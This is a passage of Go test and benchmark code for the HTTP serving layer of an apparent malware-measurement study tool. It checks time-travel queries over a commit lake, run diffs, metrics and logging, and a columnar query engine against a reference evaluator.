// run=/asof= selector answers with bytes identical to a daemon
// serving that checkpoint directly, and — like every serving path —
// identical across worker counts 1, 2, and 8.
func TestServeTimeTravelEquivalence(t *testing.T) {
	paths := []string{
		"/v1/headline",
		"/v1/metrics",
		"/v1/samples?limit=7",
		"/v1/c2?limit=500",
		"/v1/attacks?limit=500",
		"/v1/query?q=" + url.QueryEscape(`| count() by family`),
	}
	sel := func(p, extra string) string {
		if strings.Contains(p, "?") {
			return p + "&" + extra
		}
		return p + "?" + extra
	}
	var want map[string][]byte
	for _, workers := range []int{1, 2, 8} {
		f := buildLakeFixture(t, workers)
		lsrv, err := New(f.lakeDir, obs.NewWall())
		if err != nil {
			t.Fatalf("workers=%d: mounting lake: %v", workers, err)
		}
		lts := httptest.NewServer(lsrv.Handler())
		midSrv, err := New(f.midDir, obs.NewWall())
		if err != nil {
			t.Fatalf("workers=%d: serving mid dir: %v", workers, err)
		}
		mts := httptest.NewServer(midSrv.Handler())
		finalSrv, err := New(f.finalDir, obs.NewWall())
		if err != nil {
			t.Fatalf("workers=%d: serving final dir: %v", workers, err)
		}
		fts := httptest.NewServer(finalSrv.Handler())

		got := map[string][]byte{}
		for _, p := range paths {
			// Head of the branch == the final checkpoint, three ways:
			// bare, by run name, by branch name.
			_, direct := get(t, fts, p)
			for _, q := range []string{p,
				sel(p, "run=main"),
				sel(p, fmt.Sprintf("run=seed-%d", fixtureSeed)),
			} {
				if _, body := get(t, lts, q); !bytes.Equal(body, direct) {
					t.Fatalf("workers=%d: GET %s differs from direct serving:\n%s\nvs\n%s", workers, q, body, direct)
				}
			}
			// Time travel to the mid-study day — exact day and a day
			// between the two commits both resolve to the mid
			// generation.
			_, directMid := get(t, mts, p)
			for _, asof := range []int{f.midDay, f.midDay + 1} {
				q := sel(p, fmt.Sprintf("asof=%d", asof))
				if _, body := get(t, lts, q); !bytes.Equal(body, directMid) {
					t.Fatalf("workers=%d: GET %s differs from direct mid serving:\n%s\nvs\n%s", workers, q, body, directMid)
				}
			}
			got[p] = direct
		}
		lts.Close()
		mts.Close()
		fts.Close()
		if want == nil {
			want = got
			continue
		}
		for _, p := range paths {
			if !bytes.Equal(got[p], want[p]) {
				t.Fatalf("workers=%d: GET %s differs from workers=1", workers, p)
			}
		}
	}
}

// TestServeLakeSelectorsAndErrors covers the selector edges: asof
// before the first commit, unknown runs, selectors against a non-lake
// daemon, and the resident-store gauge.
func TestServeLakeSelectorsAndErrors(t *testing.T) {
	f := buildLakeFixture(t, 2)
	wall := obs.NewWall()
	srv, err := New(f.lakeDir, wall)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	for _, tc := range []struct {
		path   string
		status int
	}{
		{"/v1/headline?run=nope", http.StatusNotFound},
		{fmt.Sprintf("/v1/headline?asof=%d", f.midDay-1), http.StatusNotFound},
		{"/v1/headline?asof=-3", http.StatusBadRequest},
		{"/v1/headline?asof=later", http.StatusBadRequest},
	} {
		status, body := get(t, ts, tc.path)
		if status != tc.status {
			t.Fatalf("GET %s: status %d, want %d (%s)", tc.path, status, tc.status, body)
		}
	}

	// A time-travel request leaves its generation resident.
	if status, _ := get(t, ts, fmt.Sprintf("/v1/headline?asof=%d", f.midDay)); status != http.StatusOK {
		t.Fatalf("time-travel request failed with %d", status)
	}
	if g := wallGauges(t, wall); g["serve.resident_stores"] != 1 {
		t.Fatalf("resident_stores %d after one time-travel request, want 1", g["serve.resident_stores"])
	}

	// Directory-mode daemons refuse selectors and the lake endpoints.
	dsrv, err := New(f.midDir, obs.NewWall())
	if err != nil {
		t.Fatal(err)
	}
	dts := httptest.NewServer(dsrv.Handler())
	defer dts.Close()
	if status, _ := get(t, dts, "/v1/headline?run=main"); status != http.StatusBadRequest {
		t.Fatalf("directory mode accepted a run= selector (status %d)", status)
	}
	for _, p := range []string{"/v1/runs", "/v1/diff?a=main&b=main"} {
		if status, _ := get(t, dts, p); status != http.StatusNotFound {
			t.Fatalf("directory mode GET %s: want 404, got %d", p, status)
		}
	}
}

// TestServeLakeRunsAndDiff covers the two lake-only endpoints against
// a two-generation branch.
func TestServeLakeRunsAndDiff(t *testing.T) {
	f := buildLakeFixture(t, 2)
	red := redplane.New(redplane.Options{SlowThreshold: -1})
	srv, err := New(f.lakeDir, obs.NewWall(), WithRedPlane(red))
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	var runs struct {
		ServingBranch string `json:"serving_branch"`
		Branches      []struct {
			Branch         string `json:"branch"`
			Run            string `json:"run"`
			Seed           int64  `json:"seed"`
			HeadDay        int    `json:"head_day"`
			HeadGeneration string `json:"head_generation"`
			Fingerprint    string `json:"fingerprint"`
			Generations    int    `json:"generations"`
			Commits        []struct {
				ID         int64  `json:"id"`
				Day        int    `json:"day"`
				Generation string `json:"generation"`
			} `json:"commits"`
		} `json:"branches"`
	}
	getOK(t, ts, "/v1/runs", &runs)
	if runs.ServingBranch != "main" || len(runs.Branches) != 1 {
		t.Fatalf("/v1/runs: %+v", runs)
	}
	br := runs.Branches[0]
	if br.Branch != "main" || br.Run != fmt.Sprintf("seed-%d", fixtureSeed) || br.Seed != fixtureSeed {
		t.Fatalf("/v1/runs branch identity: %+v", br)
	}
	if br.Generations != 2 || len(br.Commits) != 2 || br.Fingerprint == "" {
		t.Fatalf("/v1/runs generations: %+v", br)
	}
	if br.Commits[0].Day != br.HeadDay || br.Commits[1].Day != f.midDay {
		t.Fatalf("/v1/runs commits not newest-first: %+v", br.Commits)
	}
	if br.HeadGeneration != srv.Store().Generation {
		t.Fatalf("/v1/runs head generation %s, serving %s", br.HeadGeneration, srv.Store().Generation)
	}
	// limit=1 truncates the commit list but not the generation count.
	getOK(t, ts, "/v1/runs?limit=1", &runs)
	if br := runs.Branches[0]; br.Generations != 2 || len(br.Commits) != 1 {
		t.Fatalf("/v1/runs?limit=1: %+v", br)
	}

	var diff struct {
		A struct {
			Day        int    `json:"day"`
			Generation string `json:"generation"`
		} `json:"a"`
		B struct {
			Day        int    `json:"day"`
			Generation string `json:"generation"`
		} `json:"b"`
		Identical bool           `json:"identical"`
		Deltas    map[string]int `json:"dataset_deltas"`
		Changed   []string       `json:"headline_changed"`
	}
	getOK(t, ts, fmt.Sprintf("/v1/diff?a=main@%d&b=main", f.midDay), &diff)
	if diff.Identical || diff.A.Day != f.midDay || diff.B.Day <= f.midDay {
		t.Fatalf("/v1/diff mid-vs-head: %+v", diff)
	}
	if diff.Deltas["samples"] <= 0 {
		t.Fatalf("/v1/diff: head should hold more samples than day %d: %+v", f.midDay, diff.Deltas)
	}

	getOK(t, ts, "/v1/diff?a=main&b=main", &diff)
	if !diff.Identical || diff.A.Generation != diff.B.Generation || len(diff.Changed) != 0 {
		t.Fatalf("/v1/diff self: %+v", diff)
	}
	for k, d := range diff.Deltas {
		if d != 0 {
			t.Fatalf("/v1/diff self: nonzero %s delta %d", k, d)
		}
	}

	for _, tc := range []struct {
		path   string
		status int
	}{
		{"/v1/diff?a=main", http.StatusBadRequest},
		{"/v1/diff?a=main&b=ghost", http.StatusNotFound},
		{"/v1/diff?a=main@x&b=main", http.StatusBadRequest},
		{"/v1/runs?limit=0", http.StatusBadRequest},
		{"/v1/runs?cursor=1", http.StatusBadRequest},
	} {
		status, body := get(t, ts, tc.path)
		if status != tc.status {
			t.Fatalf("GET %s: status %d, want %d (%s)", tc.path, status, tc.status, body)
		}
	}

	// The generation counters carry the run label in lake mode.
	if status, _ := get(t, ts, "/v1/headline"); status != http.StatusOK {
		t.Fatal("headline request failed")
	}
	var prom bytes.Buffer
	if err := red.WritePrometheus(&prom); err != nil {
		t.Fatal(err)
	}
	wantLabel := fmt.Sprintf("generation_requests_total{generation=%q,run=%q}",
		srv.Store().Generation, fmt.Sprintf("seed-%d", fixtureSeed))
	if !strings.Contains(prom.String(), wantLabel) {
		t.Fatalf("exposition missing per-run generation label %s:\n%s", wantLabel, prom.String())
	}
}

// TestServeLakeReload drives the daemon lifecycle against a lake: a
// commit landing after startup is picked up by Reload, and the new
// head serves while the old generation stays reachable via asof.
func TestServeLakeReload(t *testing.T) {
	f := buildLakeFixture(t, 2)
	// A private lake so the commit below doesn't pollute the shared
	// fixture: re-commit the two fixture generations.
	dir := t.TempDir()
	l, err := lake.Open(filepath.Join(dir, "lake"))
	if err != nil {
		t.Fatal(err)
	}
	mid, err := os.ReadDir(f.midDir)
	if err != nil || len(mid) != 1 {
		t.Fatalf("mid fixture dir: %v err=%v", mid, err)
	}
	if _, err := l.CommitFile("main", "r", fixtureSeed, f.midDay, filepath.Join(f.midDir, mid[0].Name())); err != nil {
		t.Fatal(err)
	}

	srv, err := New(filepath.Join(dir, "lake"), obs.NewWall())
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	var before headlineResp
	getOK(t, ts, "/v1/headline", &before)
	if before.Day != f.midDay {
		t.Fatalf("lake head day %d, want %d", before.Day, f.midDay)
	}
	if changed, err := srv.Reload(); err != nil || changed {
		t.Fatalf("no-op lake reload: changed=%v err=%v", changed, err)
	}

	snap, _, err := checkpoint.Latest(f.finalDir)
	if err != nil || snap == nil {
		t.Fatal(err)
	}
	if _, err := l.CommitFile("main", "r", fixtureSeed, snap.Day, snap.Path); err != nil {
		t.Fatal(err)
	}
	if changed, err := srv.Reload(); err != nil || !changed {
		t.Fatalf("lake reload after commit: changed=%v err=%v", changed, err)
	}
	var after headlineResp
	getOK(t, ts, "/v1/headline", &after)
	if after.Day != snap.Day || after.Generation == before.Generation {
		t.Fatalf("reloaded head: day %d generation %.12s (before %.12s)", after.Day, after.Generation, before.Generation)
	}
	// The pre-reload generation is still one asof away.
	var old headlineResp
	getOK(t, ts, fmt.Sprintf("/v1/headline?asof=%d", f.midDay), &old)
	if old.Generation != before.Generation {
		t.Fatalf("old generation unreachable after reload: %.12s vs %.12s", old.Generation, before.Generation)
	}

	// An empty lake (no commits on the branch) refuses to serve.
	empty := t.TempDir()
	if _, err := lake.Open(filepath.Join(empty, "lake")); err != nil {
		t.Fatal(err)
	}
	if _, err := New(filepath.Join(empty, "lake"), obs.NewWall()); err == nil {
		t.Fatal("New on an empty lake did not fail")
	}
}
