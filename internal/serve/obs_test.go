package serve

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"

	"malnet/internal/obs/redplane"
)

// redServer builds a synthetic-store Server with an armed red plane,
// the serving-observability counterpart of stampedeServer.
func redServer(n int, o redplane.Options) (*Server, *redplane.Plane) {
	s := &Server{cache: map[string][]byte{}}
	WithRedPlane(redplane.New(o))(s)
	s.store.Store(BuildStore(syntheticSnapshot(n), nil))
	return s, s.red
}

// promBody renders the plane's /metrics exposition.
func promBody(t *testing.T, p *redplane.Plane) string {
	t.Helper()
	var b strings.Builder
	if err := p.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestServeObsGenerationRollover swaps the store under live traffic
// and requires the per-generation request counters to roll over with
// it: requests before the swap count under the old generation label,
// requests after under the new, and the swap itself shows in
// store_swaps_total.
func TestServeObsGenerationRollover(t *testing.T) {
	s, p := redServer(300, redplane.Options{SlowThreshold: -1})
	stA := s.Store()
	stB := BuildStore(syntheticSnapshot(500), nil)
	h := s.Handler()

	get := func(path string) {
		w := httptest.NewRecorder()
		h.ServeHTTP(w, httptest.NewRequest("GET", path, nil))
		if w.Code != 200 {
			t.Fatalf("GET %s: status %d: %s", path, w.Code, w.Body.String())
		}
	}

	for i := 0; i < 3; i++ {
		get("/v1/headline")
	}
	// The swap, as Reload performs it.
	s.store.Store(stB)
	s.red.StoreSwapped()
	s.mu.Lock()
	s.cache = map[string][]byte{}
	s.mu.Unlock()
	for i := 0; i < 2; i++ {
		get("/v1/headline")
	}

	body := promBody(t, p)
	wantA := fmt.Sprintf("malnetd_generation_requests_total{generation=%q} 3", stA.Generation)
	wantB := fmt.Sprintf("malnetd_generation_requests_total{generation=%q} 2", stB.Generation)
	if !strings.Contains(body, wantA+"\n") || !strings.Contains(body, wantB+"\n") {
		t.Fatalf("generation counters did not roll over:\nwant %s\nand  %s\ngot:\n%s", wantA, wantB, body)
	}
	if !strings.Contains(body, "malnetd_store_swaps_total 1\n") {
		t.Fatalf("store swap not counted:\n%s", body)
	}
	// RED totals: 5 requests on the headline endpoint, all 2xx; the
	// repeats were cache hits within each generation.
	if !strings.Contains(body, `malnetd_requests_total{endpoint="headline",code="2xx"} 5`+"\n") {
		t.Fatalf("endpoint request counter wrong:\n%s", body)
	}
	if !strings.Contains(body, `malnetd_cache_outcomes_total{endpoint="headline",outcome="hit"} 3`+"\n") ||
		!strings.Contains(body, `malnetd_cache_outcomes_total{endpoint="headline",outcome="miss"} 2`+"\n") {
		t.Fatalf("cache outcome counters wrong:\n%s", body)
	}
}

// TestServeSlowlogConcurrentHerd fires a concurrent mixed herd —
// unique queries and a shared hot query — with a zero slow-log
// threshold, then requires every recorded span tree to be internally
// consistent: the stages, rows, and path of one request never bleed
// into another entry. Runs under -race in CI's named step.
func TestServeSlowlogConcurrentHerd(t *testing.T) {
	const herd = 32
	s, p := redServer(400, redplane.Options{SlowThreshold: 0, SlowCap: 2 * herd})
	h := s.Handler()

	var wg sync.WaitGroup
	for i := 0; i < herd; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			// Half the herd shares one hot query (stressing the
			// singleflight path), half issues unique pages.
			path := "/v1/samples?family=mirai"
			if i%2 == 0 {
				path = fmt.Sprintf("/v1/samples?cursor=%d", i)
			}
			w := httptest.NewRecorder()
			h.ServeHTTP(w, httptest.NewRequest("GET", path, nil))
			if w.Code != 200 {
				t.Errorf("GET %s: status %d", path, w.Code)
			}
		}(i)
	}
	wg.Wait()

	entries := p.SlowQueries()
	if len(entries) != herd {
		t.Fatalf("slow log recorded %d spans, want %d", len(entries), herd)
	}
	ids := map[string]bool{}
	for _, e := range entries {
		if ids[e.ID] {
			t.Fatalf("duplicate request ID %s in slow log", e.ID)
		}
		ids[e.ID] = true
		if e.Endpoint != "samples" || !strings.HasPrefix(e.Path, "/v1/samples?") {
			t.Fatalf("entry identity inconsistent: %+v", e)
		}
		// Stage spans nest inside the request span.
		for _, st := range e.Stages {
			if st.StartNs < 0 || st.DurNs < 0 || st.StartNs+st.DurNs > e.DurNs {
				t.Fatalf("stage %q [%d +%d] escapes its request span (%d ns): %+v",
					st.Name, st.StartNs, st.DurNs, e.DurNs, e)
			}
		}
		switch e.Cache {
		case "miss":
			// A leader scanned the store: its rows must be the filtered
			// result size of its own query, proving the span the scan
			// reported into is the span of the request that ran it.
			want := int64(s.Store().NumSamples())
			if strings.Contains(e.Path, "family=mirai") {
				want = int64(len(s.Store().Samples(SampleQuery{Family: "mirai", Day: -1})))
			}
			if e.Rows != want {
				t.Fatalf("leader entry rows %d, want %d: %+v", e.Rows, want, e)
			}
			if !hasStage(e, "scan") || !hasStage(e, "encode") {
				t.Fatalf("leader entry missing scan/encode stages: %+v", e)
			}
		case "coalesced":
			// A joiner never touched the store: no scan stage, no rows.
			if e.Rows != 0 || hasStage(e, "scan") {
				t.Fatalf("coalesced entry carries a leader's scan: %+v", e)
			}
			if !hasStage(e, "flight") {
				t.Fatalf("coalesced entry missing its flight wait: %+v", e)
			}
		case "hit":
			if e.Rows != 0 || hasStage(e, "scan") {
				t.Fatalf("cache-hit entry carries a scan: %+v", e)
			}
		default:
			t.Fatalf("entry without a cache outcome: %+v", e)
		}
	}
}

func hasStage(e redplane.SlowEntry, name string) bool {
	for _, st := range e.Stages {
		if st.Name == name {
			return true
		}
	}
	return false
}

// TestServeAccessLogAndRequestID checks the JSONL access log against
// the X-Request-Id response headers: one well-formed line per
// request, joinable on the ID the client saw.
func TestServeAccessLogAndRequestID(t *testing.T) {
	var log strings.Builder
	s, _ := redServer(120, redplane.Options{SlowThreshold: -1, AccessLog: &log})
	h := s.Handler()

	var headerIDs []string
	for i := 0; i < 3; i++ {
		w := httptest.NewRecorder()
		h.ServeHTTP(w, httptest.NewRequest("GET", "/v1/samples?limit="+strconv.Itoa(i+1), nil))
		if w.Code != 200 {
			t.Fatalf("status %d", w.Code)
		}
		if id := w.Header().Get("X-Request-Id"); id == "" {
			t.Fatal("response missing X-Request-Id")
		} else {
			headerIDs = append(headerIDs, id)
		}
	}
	// A 400 is logged too, with its status.
	w := httptest.NewRecorder()
	h.ServeHTTP(w, httptest.NewRequest("GET", "/v1/samples?bogus=1", nil))
	if w.Code != 400 {
		t.Fatalf("status %d, want 400", w.Code)
	}

	lines := strings.Split(strings.TrimRight(log.String(), "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("access log has %d lines, want 4:\n%s", len(lines), log.String())
	}
	logged := map[string]int{}
	for _, line := range lines {
		var rec struct {
			ID       string `json:"id"`
			Endpoint string `json:"endpoint"`
			Path     string `json:"path"`
			Status   int    `json:"status"`
			DurNs    int64  `json:"dur_ns"`
		}
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatalf("access line is not JSON: %v\n%s", err, line)
		}
		if rec.Endpoint != "samples" || rec.DurNs <= 0 {
			t.Fatalf("access line malformed: %s", line)
		}
		logged[rec.ID] = rec.Status
	}
	for _, id := range headerIDs {
		if logged[id] != 200 {
			t.Fatalf("request %s (from X-Request-Id) not logged as a 200: %v", id, logged)
		}
	}
}
