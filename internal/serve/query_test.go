package serve

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"malnet/internal/colstore"
	"malnet/internal/obs"
)

// queryResp is the /v1/query response envelope.
type queryResp struct {
	Generation string `json:"generation"`
	Day        int    `json:"day"`
	Query      string `json:"query"`
	Result     struct {
		Matched int64  `json:"matched"`
		Agg     string `json:"agg"`
		By      string `json:"by"`
		Rows    []struct {
			Key   string `json:"key"`
			Value int64  `json:"value"`
		} `json:"rows"`
	} `json:"result"`
}

func queryURL(q string) string { return "/v1/query?q=" + url.QueryEscape(q) }

func TestServeQueryEndpoint(t *testing.T) {
	srv, err := New(checkpointDir(t, 1), obs.NewWall())
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	st := srv.Store()

	// The empty query counts every sample row.
	var resp queryResp
	getOK(t, ts, queryURL(""), &resp)
	if resp.Result.Matched != int64(st.NumSamples()) || resp.Result.Agg != "count" || resp.Result.By != "" {
		t.Fatalf("empty query = %+v, want matched=%d count", resp.Result, st.NumSamples())
	}
	if resp.Generation != st.Generation {
		t.Fatalf("generation %q, want %q", resp.Generation, st.Generation)
	}

	// A grouped count's rows must cover exactly the matched total and
	// arrive key-ascending.
	getOK(t, ts, queryURL("| count() by family"), &resp)
	var sum int64
	for i, row := range resp.Result.Rows {
		sum += row.Value
		if i > 0 && !(resp.Result.Rows[i-1].Key < row.Key) {
			t.Fatalf("rows not key-ascending: %q then %q", resp.Result.Rows[i-1].Key, row.Key)
		}
	}
	if sum != resp.Result.Matched {
		t.Fatalf("group counts sum to %d, matched %d", sum, resp.Result.Matched)
	}

	// A filter that can't match selects nothing rather than erroring.
	getOK(t, ts, queryURL(`family=="no-such-family" | count() by c2`), &resp)
	if resp.Result.Matched != 0 || len(resp.Result.Rows) != 0 {
		t.Fatalf("unknown literal matched %d rows (%d groups), want 0", resp.Result.Matched, len(resp.Result.Rows))
	}

	// Query responses ride the response cache like every endpoint.
	before := srv.hits.Load()
	if _, body := get(t, ts, queryURL("| count() by family")); len(body) == 0 {
		t.Fatal("empty cached body")
	}
	if srv.hits.Load() != before+1 {
		t.Fatalf("repeated query was not a cache hit (hits %d -> %d)", before, srv.hits.Load())
	}

	// Client errors: every malformed input is a 400 whose body carries
	// the parser's position, never a 500.
	for _, tc := range []struct {
		path string
		want string
	}{
		{queryURL(`family==`), `q: pos 8: expected a string or integer literal, got end of query`},
		{queryURL(`bogus=="x"`), `q: pos 0: unknown field "bogus" (known: attack, c2, day, detections, disposition, family, retries)`},
		{queryURL(`| topk(0) by family`), `q: pos 2: topk group count must be in 1..1000, got 0`},
		{"/v1/query?q=x%3D%3D1&bogus=1", `unknown query parameter "bogus" (known: q)`},
	} {
		status, body := get(t, ts, tc.path)
		if status != http.StatusBadRequest {
			t.Fatalf("GET %s: status %d, want 400: %s", tc.path, status, body)
		}
		var e struct {
			Error string `json:"error"`
		}
		if err := json.Unmarshal(body, &e); err != nil {
			t.Fatalf("GET %s: non-JSON 400 body %q", tc.path, body)
		}
		if e.Error != tc.want {
			t.Fatalf("GET %s: error %q, want %q", tc.path, e.Error, tc.want)
		}
	}
}

// TestQueryDifferential is the columnar engine's correctness anchor:
// hundreds of generated filter+aggregate expressions, with literals
// drawn from the fixture's real vocabularies, must produce
// byte-identical JSON from the vectorized kernels and from the naive
// row-at-a-time reference evaluator — and the same bytes at every
// worker count, since a snapshot's content is worker-independent.
func TestQueryDifferential(t *testing.T) {
	const nQueries = 600
	var want [][]byte
	var srcs []string
	for _, workers := range []int{1, 2, 8} {
		srv, err := New(checkpointDir(t, workers), obs.NewWall())
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		st := srv.Store()
		gen := colstore.NewQueryGen(7, st.Batch())
		got := make([][]byte, nQueries)
		for i := 0; i < nQueries; i++ {
			src := gen.Next()
			if workers == 1 {
				srcs = append(srcs, src)
			} else if srcs[i] != src {
				t.Fatalf("workers=%d: generator drift at query %d: %q vs %q", workers, i, src, srcs[i])
			}
			q, err := colstore.Parse(src)
			if err != nil {
				t.Fatalf("generated query %d %q does not parse: %v", i, src, err)
			}
			plan, err := st.Batch().Compile(q)
			if err != nil {
				t.Fatalf("generated query %d %q does not compile: %v", i, src, err)
			}
			cols, err := json.Marshal(plan.Run())
			if err != nil {
				t.Fatal(err)
			}
			ref, err := colstore.RefEval(q, st.samples)
			if err != nil {
				t.Fatalf("query %d %q: reference evaluator rejected it: %v", i, src, err)
			}
			refJSON, err := json.Marshal(ref)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(cols, refJSON) {
				t.Fatalf("query %d %q: columnar and reference results differ:\n%s\nvs\n%s", i, src, cols, refJSON)
			}
			got[i] = cols
		}
		if want == nil {
			want = got
			continue
		}
		for i := range got {
			if !bytes.Equal(got[i], want[i]) {
				t.Fatalf("workers=%d: query %d %q differs from workers=1:\n%s\nvs\n%s", workers, i, srcs[i], got[i], want[i])
			}
		}
	}
}

// TestQueryHTTPMatchesReference runs a sample of generated queries
// through the full HTTP path, checking the endpoint's result field
// against the reference evaluator — the envelope (escaping, param
// plumbing, cache) is covered too, not just the kernels.
func TestQueryHTTPMatchesReference(t *testing.T) {
	srv, err := New(checkpointDir(t, 1), obs.NewWall())
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	st := srv.Store()
	gen := colstore.NewQueryGen(42, st.Batch())
	for i := 0; i < 50; i++ {
		src := gen.Next()
		var resp struct {
			Query  string          `json:"query"`
			Result json.RawMessage `json:"result"`
		}
		getOK(t, ts, queryURL(src), &resp)
		if resp.Query != src {
			t.Fatalf("query echoed as %q, want %q", resp.Query, src)
		}
		q, err := colstore.Parse(src)
		if err != nil {
			t.Fatal(err)
		}
		ref, err := colstore.RefEval(q, st.samples)
		if err != nil {
			t.Fatal(err)
		}
		refJSON, err := json.Marshal(ref)
		if err != nil {
			t.Fatal(err)
		}
		if strings.TrimSpace(string(resp.Result)) != string(refJSON) {
			t.Fatalf("query %d %q: HTTP result differs from reference:\n%s\nvs\n%s", i, src, resp.Result, refJSON)
		}
	}
}

// benchQueries are the two aggregation shapes worth timing: by-family
// answers with ten group rows (the dashboard refresh — response size
// independent of store size), by-c2 answers with one row per matched
// endpoint (tens of thousands at n=1M, so the body itself is the
// cost, warm or cold).
var benchQueries = []struct{ name, q string }{
	{"by-family", `day in 100..200 | count() by family`},
	{"by-c2", `family=="mirai" and day in 100..200 | count() by c2`},
}

// BenchmarkQueryWarm is the steady-state /v1/query cost: the
// aggregation is a (generation, query) cache hit, so this measures
// routing + key normalization + the body write. The issue's
// acceptance target is sub-millisecond at a million in-store samples;
// the by-family shape is orders of magnitude under that because the
// columns are never touched, while by-c2 shows when the response
// body, not the engine, becomes the bill.
func BenchmarkQueryWarm(b *testing.B) {
	for _, n := range []int{100000, 1000000} {
		s, _ := benchServer(n)
		h := s.Handler()
		for _, bq := range benchQueries {
			req := httptest.NewRequest("GET", queryURL(bq.q), nil)
			w := httptest.NewRecorder()
			h.ServeHTTP(w, req)
			if w.Code != http.StatusOK {
				b.Fatalf("status %d: %s", w.Code, w.Body)
			}
			b.Run(fmt.Sprintf("n=%d/%s", n, bq.name), func(b *testing.B) {
				b.RunParallel(func(pb *testing.PB) {
					for pb.Next() {
						w := httptest.NewRecorder()
						h.ServeHTTP(w, req)
						if w.Code != http.StatusOK {
							b.Fatalf("status %d", w.Code)
						}
					}
				})
			})
		}
	}
}

// BenchmarkQueryCold clears the response cache every iteration, so
// each request pays parse + compile + vectorized scan + aggregation +
// encoding — the post-swap worst case.
func BenchmarkQueryCold(b *testing.B) {
	for _, n := range []int{100000, 1000000} {
		s, _ := benchServer(n)
		h := s.Handler()
		for _, bq := range benchQueries {
			req := httptest.NewRequest("GET", queryURL(bq.q), nil)
			b.Run(fmt.Sprintf("n=%d/%s", n, bq.name), func(b *testing.B) {
				for i := 0; i < b.N; i++ {
					s.mu.Lock()
					s.cache = map[string][]byte{}
					s.mu.Unlock()
					w := httptest.NewRecorder()
					h.ServeHTTP(w, req)
					if w.Code != http.StatusOK {
						b.Fatalf("status %d", w.Code)
					}
				}
			})
		}
	}
}
