package serve

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"malnet/internal/c2"
	"malnet/internal/core"
	"malnet/internal/obs"
	"malnet/internal/world"
)

// The fixture studies: small enough that building a handful of
// checkpoints stays quick, big enough that every endpoint has data
// behind it.
const (
	fixtureSeed    = 11
	fixtureSamples = 120
)

var fixtureBase string

func TestMain(m *testing.M) {
	var err error
	fixtureBase, err = os.MkdirTemp("", "serve-fixtures-")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	code := m.Run()
	os.RemoveAll(fixtureBase)
	os.Exit(code)
}

// runStudy executes one checkpointed fixture study. killDay < 0 runs
// to completion; otherwise the run is cancelled killDay days in and
// must fail with context.Canceled.
func runStudy(t testing.TB, dir string, workers, killDay int, resume bool) {
	t.Helper()
	wcfg := world.DefaultConfig(fixtureSeed)
	wcfg.TotalSamples = fixtureSamples
	w := world.Generate(wcfg)
	scfg := core.Defaults(fixtureSeed)
	scfg.Analysis.ProbeRounds = 4
	scfg.Determinism.Workers = workers
	scfg.Durability = core.CheckpointConfig{Dir: dir, Resume: resume}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if killDay >= 0 {
		w.Clock.Schedule(world.StudyStart().AddDate(0, 0, killDay), cancel)
	}
	_, err := core.RunStudyContext(ctx, w, scfg)
	if killDay >= 0 {
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("killed run (day %d): want context.Canceled, got %v", killDay, err)
		}
	} else if err != nil {
		t.Fatalf("fixture study failed: %v", err)
	}
}

// checkpointDir lazily builds (and caches for the whole test run) a
// completed fixture study's checkpoint directory per worker count.
var (
	fixMu   sync.Mutex
	fixDirs = map[int]string{}
)

func checkpointDir(t testing.TB, workers int) string {
	fixMu.Lock()
	defer fixMu.Unlock()
	if d, ok := fixDirs[workers]; ok {
		return d
	}
	d := filepath.Join(fixtureBase, fmt.Sprintf("w%d", workers))
	runStudy(t, d, workers, -1, false)
	fixDirs[workers] = d
	return d
}

func get(t *testing.T, ts *httptest.Server, path string) (int, []byte) {
	t.Helper()
	resp, err := ts.Client().Get(ts.URL + path)
	if err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s: reading body: %v", path, err)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Fatalf("GET %s: Content-Type %q", path, ct)
	}
	return resp.StatusCode, body
}

func getOK(t *testing.T, ts *httptest.Server, path string, v any) {
	t.Helper()
	status, body := get(t, ts, path)
	if status != http.StatusOK {
		t.Fatalf("GET %s: status %d: %s", path, status, body)
	}
	if err := json.Unmarshal(body, v); err != nil {
		t.Fatalf("GET %s: decoding: %v\n%s", path, err, body)
	}
}

// pageResp covers every paginated endpoint's envelope plus the
// per-endpoint payload fields.
type pageResp struct {
	Generation string `json:"generation"`
	Day        int    `json:"day"`
	Total      int    `json:"total"`
	Count      int    `json:"count"`
	NextCursor *int   `json:"next_cursor"`
	Samples    []struct {
		SHA    string
		Date   time.Time
		Family string
	} `json:"samples"`
	Addresses []string       `json:"addresses"`
	Types     []string       `json:"types"`
	Attacks   []inertPayload `json:"attacks"`
}

// inertPayload swallows a JSON object we only count.
type inertPayload map[string]any

type headlineResp struct {
	Generation string         `json:"generation"`
	Day        int            `json:"day"`
	Datasets   map[string]int `json:"datasets"`
	Headline   map[string]any `json:"headline"`
}

func TestServeEndpoints(t *testing.T) {
	srv, err := New(checkpointDir(t, 1), obs.NewWall())
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	var head headlineResp
	getOK(t, ts, "/v1/headline", &head)
	if len(head.Generation) != 64 {
		t.Fatalf("generation is not a SHA-256 hex string: %q", head.Generation)
	}
	if head.Datasets["samples"] == 0 || head.Datasets["c2s"] == 0 {
